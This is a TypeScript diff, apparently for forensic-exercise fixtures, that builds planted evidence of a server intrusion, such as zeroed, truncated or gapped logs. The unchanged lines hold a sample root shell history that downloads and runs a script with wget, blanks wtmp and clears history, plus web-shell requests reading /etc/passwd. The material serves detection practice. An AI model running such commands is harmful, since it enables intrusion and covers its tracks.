@@ -34,10 +34,10 @@ function told(id: string, what: string, names: string, path: string, content: st
 
 export const fourthLogs: readonly Sign[] = [
 	file('wtmp-zeroed', 'evidence', 'a record of a login made zero', '/var/log/wtmp', wtmp, { group: 'utmp', mode: 0o664 }),
-	file('wtmp-cut', 'evidence', 'an older list of logins cut within a record', '/var/log/wtmp.1', wtmp.subarray(0, 384 * 9 + 100), { group: 'utmp', mode: 0o664, issue: 5 }),
-	file('auth-nul', 'evidence', 'zeros written over part of a log', '/var/log/auth.log', Buffer.concat([Buffer.from(every(start, 300, 600, cronLine)), Buffer.alloc(900), Buffer.from(`\n${every(start + 300 * 600, 300, 600, cronLine)}`)]), { ...adm, issue: 5 }),
-	file('syslog-gap', 'evidence', 'two days missing from a log that has a line each minute', '/var/log/syslog', every(start, 2000, 60, n => `systemd[1]: Started session-${n}.scope.`) + every(start + 2000 * 60 + 172_800, 2000, 60, n => `systemd[1]: Started session-${n + 9000}.scope.`), { ...adm, issue: 5 }),
-	file('cron-backwards', 'evidence', 'lines whose time runs backwards', '/var/log/cron.log', every(start, 200, 300, cronLine) + every(start - 900_000, 20, 300, cronLine) + every(start + 200 * 300, 200, 300, cronLine), { ...adm, issue: 5 }),
+	file('wtmp-cut', 'evidence', 'an older list of logins cut within a record', '/var/log/wtmp.1', wtmp.subarray(0, 384 * 9 + 100), { group: 'utmp', mode: 0o664 }),
+	file('auth-nul', 'evidence', 'zeros written over part of a log', '/var/log/auth.log', Buffer.concat([Buffer.from(every(start, 300, 600, cronLine)), Buffer.alloc(900), Buffer.from(`\n${every(start + 300 * 600, 300, 600, cronLine)}`)]), adm),
+	file('syslog-gap', 'evidence', 'two days missing from a log that has a line each minute', '/var/log/syslog', every(start, 2000, 60, n => `systemd[1]: Started session-${n}.scope.`) + every(start + 2000 * 60 + 172_800, 2000, 60, n => `systemd[1]: Started session-${n + 9000}.scope.`), adm),
+	file('cron-backwards', 'evidence', 'lines whose time runs backwards', '/var/log/cron.log', every(start, 200, 300, cronLine) + every(start - 900_000, 20, 300, cronLine) + every(start + 200 * 300, 200, 300, cronLine), adm),
 	told('history-told', 'what the intruder typed', 'account root', '/root/.bash_history', 'ls\nid\nwget http://203.0.113.9/x.sh -O /tmp/x.sh\nchmod +x /tmp/x.sh\n/tmp/x.sh\necho > /var/log/wtmp\nhistory -c\n', { mode: 0o600 }),
 	told('promiscuous', 'a card that listened to everything', 'interface eth0', '/var/log/kern.log', `${stamp(start + 400_000)} server kernel: [404711.000000] device eth0 entered promiscuous mode\n`, adm),
 	told('access-shell', 'requests to a web shell', 'host 203.0.113.9', '/var/log/apache2/access.log', Array.from({ length: 30 }, (_, n) => `203.0.113.9 - - [20/Oct/2025:03:1${n % 10}:00 +0000] "GET /wp-content/uploads/2025/06/x.php?cmd=cat%20/etc/passwd HTTP/1.1" 200 ${900 + n} "-" "curl/7.88"\n`).join(''), adm),
